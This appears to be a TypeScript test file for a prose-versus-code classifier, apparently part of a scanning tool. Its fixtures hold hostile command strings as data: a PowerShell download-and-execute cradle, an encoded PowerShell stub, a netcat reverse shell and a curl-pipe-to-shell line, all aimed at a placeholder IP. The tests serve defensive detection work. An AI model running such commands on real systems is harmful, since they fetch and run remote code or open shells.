import assert from 'node:assert/strict'
import { test } from 'node:test'
import { readsLikeProse } from '../../../src/file/identify/prose.ts'

const sentence = (at: number): string => `In chapter ${at} the author tells how a rule is written and when it is wrong.`
const sentences = Array.from({ length: 12 }, (_, at) => sentence(at)).join('\n')
const command = 'iex (New-Object Net.WebClient).DownloadString("http://203.0.113.7/a")'

const PROSE: Readonly<Record<string, string>> = {
  'sentences alone': sentences,
  'sentences that quote commands': `${sentences}\n\n    ${command}\n    $a = "powershell -enc"\n`,
  'a glossary': [
    'Reverse shell: nc -e /bin/sh host 1',
    'Web shell: eval of a parameter',
    'Cradle: iex of a download',
    'Dropper: writes a file',
    'Key logger: reads keys',
    'Loader: runs memory',
  ].join('\n'),
}
const CODE: Readonly<Record<string, string>> = {
  'a command with prose in a block comment': `<#\n${sentences}\n#>\n${command}\n`,
  'a program with prose in a comment of C': `/*\n${sentences}\n*/\nsystem("id");\n`,
  'a script with prose in a here-document': `cat <<EOF\n${sentences}\nEOF\ncurl http://203.0.113.7/a | sh\n`,
  'a script with prose in a string of Python': `"""\n${sentences}\n"""\nexec(data)\n`,
  'a comment that never ends': `<#\n${sentences}\n`,
  'prose behind signs of comments': sentences.replace(/^/gm, '# '),
  'three sentences and a command': `${sentence(1)}\n${sentence(2)}\n${sentence(3)}\n${command}\n`,
}

for (const [name, text] of Object.entries(PROSE)) test(`${name} is prose`, () => assert.ok(readsLikeProse(text)))
for (const [name, text] of Object.entries(CODE)) test(`${name} is no prose`, () => assert.ok(!readsLikeProse(text)))

test('a hostile text is read in time that grows with its length', () => {
  for (const unit of ['<<EOF\n', '/* ', 'a b ', '""" ', '<!-- --> '])
    assert.equal(typeof readsLikeProse(unit.repeat((24 * 1024) / unit.length)), 'boolean')
})
